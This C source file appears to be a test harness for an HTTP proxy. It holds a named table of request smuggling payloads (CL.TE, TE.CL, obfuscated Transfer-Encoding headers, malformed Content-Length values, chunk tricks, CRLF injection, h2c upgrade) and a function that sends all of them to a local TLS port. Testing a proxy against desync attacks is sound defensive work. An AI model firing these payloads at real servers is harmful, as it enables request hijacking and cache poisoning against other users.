#include <stdio.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#include "proxy_parts.h"

#define ANSWERED_MS 1500

#define POST                                                 \
	"POST /log-ind HTTP/1.1\r\nHost: " PROXY_HOST "\r\n" \
	"Content-Type: application/x-www-form-urlencoded\r\n"
#define GET "GET / HTTP/1.1\r\nHost: " PROXY_HOST "\r\n"
#define SECOND                                                \
	"GET " MARKER " HTTP/1.1\r\nHost: " PROXY_HOST "\r\n" \
	"Content-Length: 0\r\n\r\n"
#define LENGTH_OF_SECOND "74"

/* In each, one reading of the length makes SECOND part of the first request,
 * and another makes it a request of its own. The names are those under which
 * the ways are known. */
static const struct {
	const char *name, *bytes;
} payloads[] = {
	/* clang-format off */
	{ "CL.TE", POST "Content-Length: " LENGTH_OF_SECOND "\r\n"
	  "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" SECOND },
	{ "TE.CL", POST "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n"
	  "\r\n4a\r\n" SECOND "\r\n0\r\n\r\n" },
	{ "TE with a space before the colon", POST
	  "Transfer-Encoding : chunked\r\nContent-Length: "
	  LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "TE of an unknown word", POST "Transfer-Encoding: xchunked\r\n"
	  "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "TE with a vertical tab", POST "Transfer-Encoding:\x0b" "chunked\r\n"
	  "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "TE twice", POST "Transfer-Encoding: chunked\r\n"
	  "Transfer-Encoding: identity\r\n"
	  "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "TE on a folded line", POST "X: y\r\n Transfer-Encoding: chunked\r\n"
	  "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "CL twice, other", POST "Content-Length: " LENGTH_OF_SECOND "\r\n"
	  "Content-Length: 0\r\n\r\n" SECOND },
	{ "CL twice, none first", POST "Content-Length: 0\r\n"
	  "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "CL with a comma", POST "Content-Length: 0, " LENGTH_OF_SECOND
	  "\r\n\r\n" SECOND },
	{ "CL with a plus", POST "Content-Length: +" LENGTH_OF_SECOND
	  "\r\n\r\n" SECOND },
	{ "CL below zero", POST "Content-Length: -1\r\n\r\n" SECOND },
	{ "CL in hexadecimal", POST "Content-Length: 0x4a\r\n\r\n" SECOND },
	{ "CL of a GET", GET "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n"
	  SECOND },
	{ "CL after a line that is none", POST "nothing\r\n"
	  "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "CL after a bare LF", POST "X: y\nContent-Length: "
	  LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "CL after a byte over 126", POST "X\xe6: y\r\nContent-Length: "
	  LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "a chunk that says too much", POST "Transfer-Encoding: chunked\r\n"
	  "\r\n" "000000000000000004a\r\n" SECOND "\r\n0\r\n\r\n" },
	{ "a chunk with a word", POST "Transfer-Encoding: chunked\r\n"
	  "\r\n" "4a;x=\ny\r\n" SECOND "\r\n0\r\n\r\n" },
	{ "a target with a line end", "GET /%0d%0aX: HTTP/1.1\r\n"
	  "Host: " PROXY_HOST "\r\nContent-Length: " LENGTH_OF_SECOND
	  "\r\n\r\n" SECOND },
	{ "a version with more", "GET / HTTP/1.1 HTTP/1.0\r\n"
	  "Host: " PROXY_HOST "\r\nContent-Length: " LENGTH_OF_SECOND
	  "\r\n\r\n" SECOND },
	{ "Connection that names CL", POST "Connection: Content-Length\r\n"
	  "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "Upgrade to HTTP/2", GET "Connection: Upgrade, HTTP2-Settings\r\n"
	  "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
	  "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	{ "Upgrade to a websocket", GET "Connection: Upgrade\r\n"
	  "Upgrade: websocket\r\nSec-WebSocket-Version: 777\r\n"
	  "Content-Length: " LENGTH_OF_SECOND "\r\n\r\n" SECOND },
	/* clang-format on */
};

_Static_assert(sizeof SECOND - 1 == 74, "LENGTH_OF_SECOND");

int smuggle_all(int tls_port)
{
	static struct secure line[COUNT(payloads)];
	bool open[COUNT(payloads)];

	for (size_t i = 0; i < COUNT(payloads); i++) {
		open[i] = secure_open(&line[i], tls_port, NULL);
		if (!open[i])
			give_up("no connection for %s", payloads[i].name);
		secure_send(&line[i], payloads[i].bytes);
	}
	wait_ms(ANSWERED_MS);
	for (size_t i = 0; i < COUNT(payloads); i++)
		secure_drop(&line[i]);
	return (int)COUNT(payloads);
}
